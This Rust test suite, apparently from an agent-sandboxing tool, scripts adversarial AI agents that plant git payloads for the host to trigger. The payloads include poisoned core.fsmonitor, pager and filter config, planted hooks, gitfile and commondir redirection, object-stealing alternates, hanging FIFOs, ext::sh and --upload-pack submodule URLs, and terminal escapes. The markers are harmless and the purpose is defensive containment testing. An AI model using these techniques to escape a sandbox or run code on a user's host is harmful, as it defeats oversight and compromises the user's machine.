//! Attacks through the git data the host reads after a run (issue 11, security-cases §5).
//!
//! Each test is one adversarial agent (a shell script run as the tenant's `agent.command` in
//! `localhost/cyclix-agent-python:latest`) that has read cyclix's source. It first does the
//! demo task for real (`cyclix-demo-agent`: a legit commit), then plants payloads wherever a
//! host git process might look: every git dir it can reach (its own, the worktree admin dir,
//! the user's git dir at its host path `/home/cyx/src/TENANT/.git`), the work tree's `.git`,
//! the tree, crafted objects, symlinks, teardown traps. A payload runs `touch` on a marker
//! `cyclix-pwned-NAME` in `/tmp`, `/var/tmp` and `/home/cyx`: something the HOST can run.
//!
//! Then [`attack`] does cyclix's whole post-run work (`systemctl --user start
//! cyclix-run@TENANT`) and the user's own commands in `~/src/TENANT` (status, log,
//! log --show-signature, diff, commit, checkout -b, checkout of the delivered branch, gc, in a
//! pty so pagers run), and asserts: the run ended (record, no leftovers), the user's repository
//! is the same as before the run except for the delivered branch ([`SNAP`], compared BEFORE the
//! user's own commands), and no marker exists anywhere on the host (`find` as root).
//!
//! Every test also has a [`positive_control`]: the same payload triggered directly on the host
//! (as cyx, in a scratch clone), asserting that its marker DOES appear, so a quiet attack means
//! the hole is closed, not that the test cannot see it.

use std::fmt::Write as _;
use std::time::Instant;

use crate::common::run::{leftovers, prepared, record, start};
use crate::common::tenant::Tenant;
use crate::common::testbed::{Testbed, expect_success};

/// What every agent script starts with (POSIX sh; `N` is set before it). Defines the payload
/// (`M`: a command line, `PAY`: a shell command for config values, `hook FILE`), the git dirs
/// to attack (`gitdirs`), `poison_cfg FILE` and `legit` (the demo task, committed).
const PRELUDE: &str = r#"set +e
T=$CYCLIX_TENANT; RUN=$CYCLIX_RUN
M="touch /tmp/cyclix-pwned-$N /var/tmp/cyclix-pwned-$N /home/cyx/cyclix-pwned-$N"
PAY="sh -c '$M'"
cd /work || exit 0
say() { echo "atk[$N]: $*"; }
try() { if "$@" 2>/dev/null; then say "ok: $*"; else say "refused: $*"; fi; }
GD=$(git rev-parse --absolute-git-dir 2>/dev/null)
CD=$(cd "$(git rev-parse --git-common-dir 2>/dev/null)" 2>/dev/null && pwd)
UD=/home/cyx/src/$T/.git
BR=$(git symbolic-ref -q --short HEAD)
BASE=$(git rev-parse HEAD)
say "git dir $GD, common dir $CD, branch $BR, base $BASE"
gitdirs() { for d in "$GD" "$CD" "$UD"; do [ -n "$d" ] && [ -d "$d" ] && echo "$d"; done | sort -u; }
hook() { printf '#!/bin/sh\n%s\n' "$M" > "$1" 2>/dev/null && chmod +x "$1" && say "planted $1" || say "refused: hook $1"; }
HOOKS="post-checkout pre-commit post-commit prepare-commit-msg commit-msg reference-transaction fsmonitor-watchman pre-auto-gc post-merge post-rewrite pre-push post-index-change pre-rebase"
hooks() { mkdir -p "$1" 2>/dev/null; for h in $HOOKS; do hook "$1/$h"; done; }
poison_cfg() {
  f=$1
  if git config -f "$f" core.fsmonitor "$PAY" 2>/dev/null; then say "poisoned $f"; else say "refused: config $f"; return; fi
  git config -f "$f" core.pager "$M; cat"
  git config -f "$f" core.sshCommand "$PAY"
  git config -f "$f" core.editor "$PAY"
  git config -f "$f" core.askPass "$PAY"
  git config -f "$f" sequence.editor "$PAY"
  git config -f "$f" diff.external "$PAY"
  git config -f "$f" diff.x.textconv "$PAY"
  git config -f "$f" diff.x.command "$PAY"
  git config -f "$f" merge.x.driver "$M"
  git config -f "$f" filter.x.clean "$M; cat"
  git config -f "$f" filter.x.smudge "$M; cat"
  git config -f "$f" credential.helper "!$M"
  git config -f "$f" pager.status "$M; cat"
  git config -f "$f" pager.log "$M; cat"
  git config -f "$f" pager.diff "$M; cat"
  git config -f "$f" alias.st "!$M"
  git config -f "$f" core.alternateRefsCommand "$PAY"
  git config -f "$f" uploadpack.packObjectsHook "$PAY"
  git config -f "$f" gc.auto 1
  git config -f "$f" protocol.ext.allow always
  git config -f "$f" submodule.recurse true
  mkdir -p "$(dirname "$f")/evil-hooks" && hooks "$(dirname "$f")/evil-hooks"
  git config -f "$f" core.hooksPath "$(dirname "$f")/evil-hooks"
}
legit() { if cyclix-demo-agent >/dev/null 2>&1; then say "legit fix committed"; else say "demo agent failed"; fi; }
"#;

/// Defines the bash function `snap REPO EXCL`: the identity of a repository (the files of its
/// git dir with their hashes, objects and logs aside; refs, HEAD, config, worktree list, fsck,
/// the work tree's files), leaving out the ref `EXCL` (the delivered branch) and the
/// directories that hold it. Every git call is hardened and bounded.
const SNAP: &str = r#"
snap() {
  local r=$1 x=$2 t
  t=$(basename "$r")
  local G="timeout 20 git -C $r -c core.fsmonitor=false -c core.hooksPath=/dev/null --no-pager"
  local P=( '(' -path ./objects/pack -o -regex '\./objects/[0-9a-f][0-9a-f]' -o -path ./logs -o -path ./index
            -o -path ./FETCH_HEAD -o -path ./ORIG_HEAD -o -path ./COMMIT_EDITMSG -o -path ./gc.log -o -path ./gc.pid ')' -prune -o )
  echo "== git dir"
  ( cd "$r/.git" && timeout 20 find . "${P[@]}" -printf '%y %m %p %l\n' 2>&1 | sort \
      | grep -v -E "^d [0-7]+ \./refs/heads/cyclix(/$t)? \$" | awk -v p="./$x" '!($1 == "f" && $3 == p)' )
  ( cd "$r/.git" && timeout 20 find . "${P[@]}" -type f -print 2>/dev/null | sort | while IFS= read -r f; do
      [ "$f" = "./$x" ] && continue
      if [ "$f" = ./packed-refs ]; then h=$(grep -v '^#' packed-refs | grep -v " $x\$" | sort | sha256sum); else h=$(timeout 5 sha256sum < "$f" 2>&1); fi
      echo "$f $h"
    done )
  echo "== refs"; $G for-each-ref --format='%(refname) %(objectname) %(symref)' 2>&1 | awk -v x="$x" '$1 != x'
  echo "== HEAD"; $G symbolic-ref -q HEAD 2>&1; $G rev-parse -q --verify HEAD 2>&1
  echo "== config"; $G config --list --show-origin 2>&1
  echo "== worktrees"; $G worktree list --porcelain 2>&1
  echo "== fsck"; if $G fsck --no-dangling --connectivity-only >/dev/null 2>&1; then echo ok; else echo FAIL; fi
  echo "== work tree"
  ( cd "$r" && timeout 20 find . -path ./.git -prune -o -printf '%y %m %p %l\n' | sort
    timeout 20 find . -path ./.git -prune -o -type f -print0 | sort -z | xargs -0 -r timeout 20 sha256sum )
  echo "== global config"; sha256sum ~/.gitconfig ~/.config/git/config 2>&1
  return 0
}
"#;

/// What a positive control starts with (bash, as cyx): the same payload with the marker
/// `/tmp/cyclix-pc-NAME`, a scratch clone `$R` of the demo project, `hook`, and
/// `changed_after CMD`, which touches the marker when CMD changed `snap $R`.
const PC_PRELUDE: &str = r#"set +e
M="touch /tmp/cyclix-pc-$N"
PAY="sh -c '$M'"
rm -f /tmp/cyclix-pc-$N
S=$(mktemp -d ~/pc-$N.XXXXXX); R=$S/r
git clone -q ~/.local/share/cyclix/demo/project "$R"
cd "$R" || exit 1
hook() { mkdir -p "$(dirname "$1")"; printf '#!/bin/sh\n%s\n' "$M" > "$1"; chmod +x "$1"; }
changed_after() {
  local b a
  b=$(snap "$R" ""); eval "$1"; a=$(snap "$R" "")
  if [ "$a" != "$b" ]; then $M; diff <(echo "$b") <(echo "$a") | head -20; fi
}
"#;

/// What the user does in their repository after the run (bash, as cyx, `$B` = the delivered
/// branch or empty), each command in a pty (`script`) so a pager would run, each bounded.
const USER_COMMANDS: &str = r#"
cd ~/src/$TENANT || exit 0
export PAGER=cat
u() { echo "\$ $*"; timeout 30 script -qec "$*" /dev/null </dev/null 2>&1 | tail -c 2000; echo "[rc ${PIPESTATUS[0]}]"; }
u git status
u git log -3
u git log -3 --show-signature
u git diff
u git commit --allow-empty -m x
u git checkout -b t
if [ -n "$B" ] && timeout 20 git rev-parse -q --verify "refs/heads/$B" >/dev/null; then
  u git checkout "$B"
  u git log -3 --show-signature
  u git diff main
  u git status
  u git submodule status
fi
u git gc
u git status
"#;

/// Standard base64 (the agent command carries its script this way: no YAML or shell quoting).
fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for c in data.chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= c.len() {
                out.push(char::from(A[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The `agent.command` (YAML flow sequence) that runs `body` after [`PRELUDE`].
fn agent_command(name: &str, body: &str) -> String {
    let script = format!("N={name}\n{PRELUDE}\n{body}\nsay done\nexit 0\n");
    format!(
        "[sh, -c, \"echo {} | base64 -d > /tmp/atk.sh && exec sh /tmp/atk.sh\"]",
        base64(script.as_bytes())
    )
}

/// The marker files named `PREFIX-NAME` anywhere on the testbed (as root).
fn markers(tb: &Testbed, prefix: &str, name: &str) -> String {
    expect_success(
        &tb.root_sh(&format!(
            "find / /tmp /var/tmp /run /dev/shm -xdev -name '{prefix}-{name}' 2>/dev/null | sort -u"
        )),
        "look for markers",
    )
}

/// `snap ~/src/TENANT EXCL` (see [`SNAP`]).
fn snapshot(tb: &Testbed, t: &str, excl: &str) -> String {
    expect_success(
        &tb.user_sh(&format!("{SNAP}\nsnap ~/src/{t} '{excl}'")),
        "snapshot the user's repository",
    )
}

/// Lines of `a` and `b` that differ (a small line diff for the failure message).
fn diff(a: &str, b: &str) -> String {
    let (la, lb): (Vec<&str>, Vec<&str>) = (a.lines().collect(), b.lines().collect());
    let mut out = String::new();
    for l in &la {
        if !lb.contains(l) {
            let _ = writeln!(out, "- {l}");
        }
    }
    for l in &lb {
        if !la.contains(l) {
            let _ = writeln!(out, "+ {l}");
        }
    }
    out
}

/// Runs `script` on the host as cyx after [`SNAP`] and [`PC_PRELUDE`] and asserts that the
/// marker `/tmp/cyclix-pc-NAME` appeared: the payload is real and the test can see it.
fn positive_control(tb: &Testbed, name: &str, script: &str) {
    let out = tb.user_sh(&format!("N={name}\n{SNAP}\n{PC_PRELUDE}\n{script}\n"));
    let seen = markers(tb, "cyclix-pc", name);
    let _ = tb.user_sh(&format!("rm -rf ~/pc-{name}.* /tmp/cyclix-pc-{name}"));
    let _ = tb.root_sh(&format!("rm -rf /home/cyx/pc-{name}.*"));
    assert!(
        !seen.trim().is_empty(),
        "positive control {name}: the payload run directly on the host left no marker, so the \
         attack test could not see it\n--- stdout ---\n{}--- stderr ---\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// What one attack run gave the extra checks.
struct Outcome {
    tenant: String,
    run_id: String,
    /// The delivered branch (`cyclix/TENANT/RUN`), empty when the record names none.
    branch: String,
    /// The user's `main` before the run (the base).
    base: String,
    rec: serde_json::Value,
    rec_text: String,
    secs: f64,
}

/// Whether the agent's legit commit must arrive on the delivered branch.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Delivery {
    /// The agent's history is legit (it contains the base and the demo fix): it must arrive.
    Required,
    /// The agent broke its own history or repository: delivery is optional.
    Optional,
}

/// Clears the markers of `name`, prepares the user (identity, a canary in `~/.ssh`) and creates
/// tenant `t` whose agent runs `body`.
fn setup(tb: &Testbed, t: &str, name: &str, body: &str, tier: &str) {
    let _ = tb.root_sh(&format!(
        "find / /tmp /var/tmp /run /dev/shm -xdev -name 'cyclix-pwned-{name}' -delete 2>/dev/null; \
         rm -rf /home/cyx/src/{t}"
    ));
    expect_success(
        &tb.user_sh(&format!(
            "git config --global user.name >/dev/null || git config --global user.name cyx; \
             git config --global user.email >/dev/null || git config --global user.email cyx@testbed; \
             mkdir -p ~/.ssh && echo canary > ~/.ssh/canary-{t}; \
             rm -f ~/.local/state/cyclix/runs/{t}/latest.json"
        )),
        "set up the user",
    );
    Tenant::new(t)
        .agent_cmd(&agent_command(name, body))
        .tier(tier)
        .write(tb);
}

/// The latest record of `t` and its text (`Null` when there is none).
fn latest_record(tb: &Testbed, t: &str) -> (serde_json::Value, String) {
    let text = tb
        .user_sh(&format!("cat ~/.local/state/cyclix/runs/{t}/latest.json"))
        .stdout;
    let text = String::from_utf8_lossy(&text).into_owned();
    if text.trim().is_empty() {
        (serde_json::Value::Null, text)
    } else {
        (record(tb, t), text)
    }
}

/// What cyclix printed for `t`'s run since `since` (the run unit's journal, `cyclix status`)
/// must not carry the agent's terminal escape sequences raw (title, clear screen, OSC 8 links,
/// OSC 52 clipboard): the failure, if it does.
fn raw_escapes(tb: &Testbed, t: &str, since: &str) -> Option<String> {
    let printed = expect_success(
        &tb.user_sh(&format!(
            "journalctl --user -u cyclix-run@{t}.service --since @{since} -o cat -a --no-pager; \
             {c} status {t} 2>&1; true",
            c = tb.cyclix_bin()
        )),
        "what cyclix printed",
    );
    let raw: Vec<&str> = printed.lines().filter(|l| l.contains('\u{1b}')).collect();
    if raw.is_empty() {
        None
    } else {
        Some(format!(
            "cyclix printed the agent's terminal escapes raw ({} lines), e.g. {:?}",
            raw.len(),
            raw.iter().take(3).collect::<Vec<_>>()
        ))
    }
}

/// One attack: tenant `e2e-atk-N` with the agent script `body`, the run, the repository
/// comparison, the user's own commands, the marker sweep, and `extra` (failures it returns are
/// added). All failures are reported together.
fn attack(
    n: u32,
    name: &str,
    body: &str,
    delivery: Delivery,
    extra: impl FnOnce(&Testbed, &Outcome) -> Vec<String>,
) {
    attack_in("container", n, name, body, delivery, extra);
}

/// The tenant of attack `n` in tier `tier`.
fn tenant(tier: &str, n: u32) -> String {
    match tier {
        "container" => format!("e2e-atk-{n}"),
        _ => format!("e2e-atk-gv-{n}"),
    }
}

/// [`attack`] with the agent in tier `tier` (`container`: tenant `e2e-atk-N`; `gvisor`:
/// `e2e-atk-gv-N`, the agent and the gate on gVisor's runsc).
fn attack_in(
    tier: &str,
    n: u32,
    name: &str,
    body: &str,
    delivery: Delivery,
    extra: impl FnOnce(&Testbed, &Outcome) -> Vec<String>,
) {
    let _shared = crate::common::testbed::shared();
    let tb = prepared();
    let t = tenant(tier, n);
    setup(tb, &t, name, body, tier);
    let base = expect_success(
        &tb.user_sh(&format!("git -C ~/src/{t} rev-parse main")),
        "the base commit",
    )
    .trim()
    .to_string();
    let before = snapshot(tb, &t, "");
    let since = expect_success(&tb.user_sh("date +%s"), "the time")
        .trim()
        .to_string();
    let t0 = Instant::now();
    let run = start(tb, &t);
    let secs = t0.elapsed().as_secs_f64();
    let _ = tb.user(&[
        "systemctl",
        "--user",
        "reset-failed",
        &format!("cyclix-run@{t}.service"),
    ]);
    let mut failures = Vec::new();
    let (rec, rec_text) = latest_record(tb, &t);
    if rec.is_null() {
        failures.push(format!("the run left no record: {run:?}"));
    }
    let run_id = rec["run_id"].as_str().unwrap_or("").to_string();
    let branch = rec["branch"].as_str().unwrap_or("").to_string();
    let excl = if branch.is_empty() {
        String::new()
    } else {
        format!("refs/heads/{branch}")
    };
    let after = snapshot(tb, &t, &excl);
    if before != after {
        failures.push(format!(
            "the user's repository changed (other than the delivered branch {branch:?}):\n{}",
            diff(&before, &after)
        ));
    }
    if !run_id.is_empty() {
        let left = leftovers(tb, &run_id, &t);
        if !left.trim().is_empty() {
            failures.push(format!("run {run_id} left behind:\n{left}"));
        }
    }
    failures.extend(raw_escapes(tb, &t, &since));
    let after_run = markers(tb, "cyclix-pwned", name);
    if !after_run.trim().is_empty() {
        failures.push(format!("MARKER after cyclix's post-run work:\n{after_run}"));
    }
    let delivered_log = if branch.is_empty() {
        String::new()
    } else {
        String::from_utf8_lossy(
            &tb.user_sh(&format!(
                "timeout 20 git -C ~/src/{t} -c core.fsmonitor=false -c core.hooksPath=/dev/null \
                 log --format=%s main..refs/heads/{branch} 2>&1"
            ))
            .stdout,
        )
        .into_owned()
    };
    if delivery == Delivery::Required && !delivered_log.contains("Fix calc.subtract") {
        failures.push(format!(
            "the agent's legit commit was not delivered (branch {branch:?}): {delivered_log}"
        ));
    }
    let user = tb.user_sh(&format!("TENANT={t}; B={branch}\n{USER_COMMANDS}"));
    let user_log = String::from_utf8_lossy(&user.stdout).into_owned();
    let after_user = markers(tb, "cyclix-pwned", name);
    if after_user.trim() != after_run.trim() {
        failures.push(format!(
            "MARKER after the user's own git commands:\n{after_user}"
        ));
    }
    let out = Outcome {
        tenant: t.clone(),
        run_id,
        branch,
        base,
        rec,
        rec_text,
        secs,
    };
    failures.extend(extra(tb, &out));
    assert!(
        failures.is_empty(),
        "attack {name} (tenant {t}, run {}, {:.1} s) SUCCEEDED or broke the run:\n{}\n\
         --- agent log ---\n{}\n--- record result ---\n{} {}\n--- user's commands ---\n{}",
        out.run_id,
        out.secs,
        failures.join("\n"),
        out.rec["agent_log"],
        out.rec["result"],
        out.rec["error"],
        user_log.chars().take(6000).collect::<String>()
    );
}

fn none(_: &Testbed, _: &Outcome) -> Vec<String> {
    Vec::new()
}

/// The agent's script of `atk01` (also run under tier gvisor).
const ATK01: &str = r#"legit
for d in $(gitdirs); do for f in config config.worktree; do poison_cfg "$d/$f"; done; done
try git config -f "$CD/config" extensions.worktreeConfig true
try git config --worktree core.fsmonitor "$PAY"
printf '* filter=x diff=x merge=x\n' > .gitattributes
echo dirty >> README.md
"#;

/// The agent's script of `atk09` (also run under tier gvisor).
const ATK09: &str = r#"legit
for d in $(gitdirs); do hooks "$d/hooks"; hooks "$d/evil-hooks"; done
try git config core.hooksPath "$GD/evil-hooks"
try git config core.fsmonitor "$GD/hooks/fsmonitor-watchman"
try git config core.fsmonitorHookVersion 2
"#;

/// The agent's script of `atk10` (also run under tier gvisor).
const ATK10: &str = r#"legit
W=$(dirname "$(cat "$GD/gitdir" 2>/dev/null)" 2>/dev/null); [ -n "$W" ] || W=/work
for d in $(gitdirs); do
  mkdir -p "$d/objects/info" 2>/dev/null || continue
  try sh -c "printf '/\n/home/cyx/src/$T/.git/objects\n$W/.stolen\n' >> '$d/objects/info/alternates'"
  try sh -c "echo 'http://127.0.0.1:1/' > '$d/objects/info/http-alternates'"
done
# Move the user's objects into the work tree (deleted at teardown), reachable only by alternates.
if [ -d "$UD/objects" ]; then
  mkdir -p /work/.stolen && try sh -c "mv '$UD'/objects/pack '$UD'/objects/[0-9a-f][0-9a-f] /work/.stolen/"
fi
"#;

/// The agent's script of `atk20` (also run under tier gvisor).
const ATK20: &str = r#"legit
printf '* filter=x\n' > .gitattributes && git add .gitattributes && git commit -qm attrs
for k in core.fsmonitor core.pager core.sshCommand diff.external filter.x.clean filter.x.smudge filter.x.process core.alternateRefsCommand uploadpack.packObjectsHook; do
  try git config "$k" "sleep 3600"
done
try git config filter.x.required true
OD=$(git rev-parse --git-path objects)
mkfifo "$GD/fifo" 2>/dev/null
try mkfifo "$OD/info/alternates"
say "hung alternates in $OD"
"#;

/// `atk20`'s extra check: the hung configuration and FIFOs did not hold the run past its
/// deadlines (agent, gate and teardown together are far under 420 s).
fn not_hung(_: &Testbed, o: &Outcome) -> Vec<String> {
    if o.secs > 420.0 {
        vec![format!("the run took {:.0} s", o.secs)]
    } else {
        Vec::new()
    }
}

// ---- the core cases under tier gvisor (issue 35): the agent writes its repository through
// gVisor's kernel and file proxy; the host's import must hold the same way -----------------

#[test]
fn atk01_under_gvisor() {
    attack_in("gvisor", 1, "atk01", ATK01, Delivery::Required, none);
}

#[test]
fn atk09_under_gvisor() {
    attack_in("gvisor", 9, "atk09", ATK09, Delivery::Required, none);
}

#[test]
fn atk10_under_gvisor() {
    attack_in("gvisor", 10, "atk10", ATK10, Delivery::Optional, none);
}

#[test]
fn atk20_under_gvisor() {
    attack_in("gvisor", 20, "atk20", ATK20, Delivery::Optional, not_hung);
}

// ---- config ----------------------------------------------------------------------------

#[test]
fn atk01_config_keys_in_every_git_dir() {
    positive_control(
        prepared(),
        "atk01",
        r#"git config core.fsmonitor "$PAY"; echo x >> README.md; git status >/dev/null 2>&1"#,
    );
    attack(1, "atk01", ATK01, Delivery::Required, none);
}

#[test]
fn atk02_include_includeif_alias_filter() {
    positive_control(
        prepared(),
        "atk02",
        r#"git config -f .git/evil.cfg core.fsmonitor "$PAY"; git config include.path evil.cfg
echo x >> README.md; git status >/dev/null 2>&1"#,
    );
    attack(
        2,
        "atk02",
        r#"legit
for d in $(gitdirs); do
  mkdir -p "$d/evil" && poison_cfg "$d/evil/inc.cfg"
  cp "$d/evil/inc.cfg" /tmp/inc.cfg 2>/dev/null
  for f in config config.worktree; do
    try git config -f "$d/$f" include.path "$d/evil/inc.cfg"
    try git config -f "$d/$f" "includeIf.gitdir:/.path" "$d/evil/inc.cfg"
    try git config -f "$d/$f" "includeIf.onbranch:*.path" "$d/evil/inc.cfg"
    try git config -f "$d/$f" alias.st "!$M"
    try git config -f "$d/$f" filter.x.clean "$M; cat"
    try git config -f "$d/$f" filter.x.smudge "$M; cat"
    try git config -f "$d/$f" filter.x.required true
  done
  mkdir -p "$d/info" && try sh -c "printf '* filter=x diff=x\n' >> '$d/info/attributes'"
done
printf '* filter=x diff=x merge=x\n' > .gitattributes
git add .gitattributes && git commit -qm "attributes" && say "committed .gitattributes"
"#,
        Delivery::Required,
        none,
    );
}

// ---- the git dir's own files -----------------------------------------------------------

#[test]
fn atk03_commondir_to_a_hostile_common_dir() {
    positive_control(
        prepared(),
        "atk03",
        r#"EV=$S/evil; mkdir -p $EV/objects/info; cp -r .git/refs $EV/; cp .git/packed-refs $EV/ 2>/dev/null
echo "$R/.git/objects" > $EV/objects/info/alternates
git config -f $EV/config core.repositoryformatversion 0; git config -f $EV/config core.fsmonitor "$PAY"
echo "$EV" > .git/commondir; echo x >> README.md; git status >/dev/null 2>&1"#,
    );
    attack(
        3,
        "atk03",
        r#"legit
for d in $(gitdirs); do
  EV=$d/evil-common
  mkdir -p "$EV/objects/info" "$EV/refs" || continue
  echo "$CD/objects" > "$EV/objects/info/alternates"
  cp -r "$CD/refs/." "$EV/refs/" 2>/dev/null; cp "$CD/packed-refs" "$EV/" 2>/dev/null
  git config -f "$EV/config" core.repositoryformatversion 0
  poison_cfg "$EV/config"
done
for d in $GD $UD $CD; do [ -d "$d/evil-common" ] && try sh -c "echo '$d/evil-common' > '$d/commondir'"; done
"#,
        Delivery::Optional,
        none,
    );
}

#[test]
fn atk04_head_symbolic_to_elsewhere() {
    positive_control(
        prepared(),
        "atk04",
        r#"changed_after 'echo "ref: refs/heads/evil" > .git/HEAD'"#,
    );
    attack(
        4,
        "atk04",
        r#"legit
TIP=$(git rev-parse HEAD)
for d in $(gitdirs); do
  try sh -c "echo $TIP > '$d/refs/heads/evil'"
  [ "$d" = "$GD" ] && [ "$GD" != "$CD" ] && continue
  try sh -c "echo 'ref: refs/heads/evil' > '$d/HEAD'"
done
try sh -c "echo 'ref: refs/heads/cyclix/$T/$RUN' > '$UD/HEAD'"
try sh -c "echo $TIP > '$CD/HEAD'"
"#,
        Delivery::Required,
        none,
    );
}

#[test]
fn atk05_loose_refs_moved_created_replaced() {
    positive_control(
        prepared(),
        "atk05",
        r"changed_after 'git commit-tree -m evil HEAD^{tree} > .git/refs/heads/main'",
    );
    attack(
        5,
        "atk05",
        r#"legit
TIP=$(git rev-parse HEAD)
EVIL=$(git commit-tree -p "$BASE" -m "evil main" "$TIP^{tree}")
for d in $(gitdirs); do
  try sh -c "echo $EVIL > '$d/refs/heads/main'"
  mkdir -p "$d/refs/tags" "$d/refs/remotes/origin"
  try sh -c "echo $EVIL > '$d/refs/tags/v-evil'"
  try sh -c "echo $EVIL > '$d/refs/remotes/origin/main'"
done
try git update-ref refs/heads/main "$EVIL"
"#,
        // Replace refs are atk24's (they make the export's walk lose the base: refused).
        Delivery::Required,
        none,
    );
}

#[test]
fn atk06_packed_refs_shallow_grafts() {
    positive_control(
        prepared(),
        "atk06",
        r#"changed_after 'echo "$(git commit-tree -m x HEAD^{tree}) refs/heads/evil-packed" >> .git/packed-refs; git rev-parse HEAD > .git/shallow'"#,
    );
    attack(
        6,
        "atk06",
        r#"legit
TIP=$(git rev-parse HEAD)
EVIL=$(git commit-tree -p "$BASE" -m "evil packed" "$TIP^{tree}")
for d in $(gitdirs); do
  try sh -c "{ cat '$d/packed-refs' 2>/dev/null | grep -v ' refs/heads/main\$'; echo '$EVIL refs/heads/main'; echo '$EVIL refs/heads/evil-packed'; } > /tmp/pr && cat /tmp/pr > '$d/packed-refs'"
  try rm -f "$d/refs/heads/main"
  try sh -c "echo $BASE > '$d/shallow'"
  mkdir -p "$d/info"; try sh -c "echo $BASE > '$d/info/grafts'"
done
"#,
        Delivery::Required,
        none,
    );
}

#[test]
fn atk07_worktrees_admin_entries() {
    positive_control(
        prepared(),
        "atk07",
        r"changed_after 'mkdir -p .git/worktrees/evil; echo /home/cyx/.ssh/.git > .git/worktrees/evil/gitdir; echo ../.. > .git/worktrees/evil/commondir; git rev-parse HEAD > .git/worktrees/evil/HEAD; echo pwned > .git/worktrees/evil/locked'",
    );
    attack(
        7,
        "atk07",
        r#"legit
for d in $(gitdirs); do
  w=$d/worktrees/evil
  mkdir -p "$w" || continue
  echo /home/cyx/src/$T/.git > "$w/gitdir"; echo "$d/evil-common" > "$w/commondir"
  git rev-parse HEAD > "$w/HEAD"; echo "never prune" > "$w/locked"
  poison_cfg "$w/config.worktree"
  say "planted $w"
done
# Our own worktree entry: point it at the user's work tree, and lock it.
if [ -f "$GD/gitdir" ]; then
  try sh -c "echo /home/cyx/src/$T/.git > '$GD/gitdir'"
  try sh -c "echo locked > '$GD/locked'"
fi
"#,
        Delivery::Required,
        none,
    );
}

#[test]
fn atk08_info_attributes_exclude_sparse() {
    positive_control(
        prepared(),
        "atk08",
        r#"changed_after "echo '*' >> .git/info/exclude; echo '* filter=x' >> .git/info/attributes""#,
    );
    attack(
        8,
        "atk08",
        r#"legit
for d in $(gitdirs); do
  mkdir -p "$d/info"
  try sh -c "echo '* filter=x diff=x merge=x' >> '$d/info/attributes'"
  try sh -c "echo '*' >> '$d/info/exclude'"
  try sh -c "echo $BASE >> '$d/info/grafts'"
  try sh -c "echo /nothing > '$d/info/sparse-checkout'"
  try sh -c "echo x > '$d/info/refs'"
done
"#,
        Delivery::Required,
        none,
    );
}

#[test]
fn atk09_hooks_everywhere() {
    positive_control(
        prepared(),
        "atk09",
        r"hook .git/hooks/post-checkout; git checkout -q -b pc",
    );
    attack(9, "atk09", ATK09, Delivery::Required, none);
}

#[test]
fn atk10_alternates_and_stolen_objects() {
    positive_control(
        prepared(),
        "atk10",
        r"changed_after 'mkdir -p $S/stolen; mv .git/objects/pack $S/stolen/; mv .git/objects/[0-9a-f][0-9a-f] $S/stolen/ 2>/dev/null; echo $S/stolen >> .git/objects/info/alternates; rm -rf $S/stolen'",
    );
    attack(10, "atk10", ATK10, Delivery::Optional, none);
}

// ---- the work tree's .git --------------------------------------------------------------

#[test]
fn atk11_gitfile_pointing_at_the_users_repo() {
    positive_control(
        prepared(),
        "atk11",
        r#"git worktree add -q $S/w -b w >/dev/null 2>&1
changed_after 'echo "gitdir: $R/.git" > $S/w/.git; git -C $S/w commit --allow-empty -qm evil'"#,
    );
    attack(
        11,
        "atk11",
        r#"legit
mv /work/.git /work/.git-orig 2>/dev/null
echo "gitdir: /home/cyx/src/$T/.git" > /work/.git && say "rewrote /work/.git -> the user's git dir"
"#,
        Delivery::Optional,
        none,
    );
}

#[test]
fn atk12_gitfile_pointing_at_a_hostile_dir() {
    positive_control(
        prepared(),
        "atk12",
        r#"git worktree add -q $S/w -b w >/dev/null 2>&1
git clone -q --bare "$R" $S/w/.evil; git -C $S/w/.evil config core.bare false; git -C $S/w/.evil config core.fsmonitor "$PAY"
echo "gitdir: .evil" > $S/w/.git; echo x >> $S/w/README.md; git -C $S/w status >/dev/null 2>&1"#,
    );
    attack(
        12,
        "atk12",
        r#"legit
EV=/work/.evil
git init -q --bare "$EV" && git --git-dir="$EV" fetch -q /work "+refs/heads/*:refs/heads/*" "+HEAD:refs/heads/evil-head"
git --git-dir="$EV" symbolic-ref HEAD "refs/heads/$BR"
git --git-dir="$EV" config core.bare false
poison_cfg "$EV/config"
mkdir -p "$EV/info"; echo '* filter=x diff=x' > "$EV/info/attributes"
hooks "$EV/hooks"
git --git-dir="$EV" --work-tree=/work read-tree HEAD
mv /work/.git /work/.git-orig && echo "gitdir: .evil" > /work/.git && say "rewrote /work/.git -> .evil"
echo dirty >> README.md
"#,
        Delivery::Optional,
        none,
    );
}

// ---- the tree ---------------------------------------------------------------------------

#[test]
fn atk13_gitattributes_and_gitmodules_in_the_tree() {
    positive_control(
        prepared(),
        "atk13",
        r#"git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),evil
printf '[submodule "evil"]\n\tpath = evil\n\turl = ext::sh -c touch%% /tmp/cyclix-pc-%s\n' "$N" > .gitmodules
git add .gitmodules; git commit -qm sub
timeout 20 git -c protocol.ext.allow=always submodule update --init >/dev/null 2>&1"#,
    );
    attack(
        13,
        "atk13",
        r#"legit
printf '* filter=evil diff=evil merge=evil\n*.py ident\n' > .gitattributes
cat > .gitmodules <<EOF
[submodule "evil"]
	path = evil
	url = ext::sh -c touch% /tmp/cyclix-pwned-$N
	update = !$M
[submodule "evil2"]
	path = evil2
	url = --upload-pack=touch /tmp/cyclix-pwned-$N
[submodule "evil4"]
	path = evil4
	url = $(printf '\033]0;pwned\007\033[2J-x')
[submodule "evil3"]
	path = evil3
	url = /home/cyx/src/$T/.git
	update = !$M
EOF
for p in evil evil2 evil3 evil4; do git update-index --add --cacheinfo "160000,$BASE,$p"; done
git add .gitattributes .gitmodules && git commit -qm "submodules and attributes" && say "committed"
"#,
        // The host's fetch runs fsck, which refuses a `.gitmodules` with a hostile url or
        // update setting: the whole bundle is refused, legit commit included.
        Delivery::Optional,
        none,
    );
}

#[test]
fn atk14_crafted_commit_objects() {
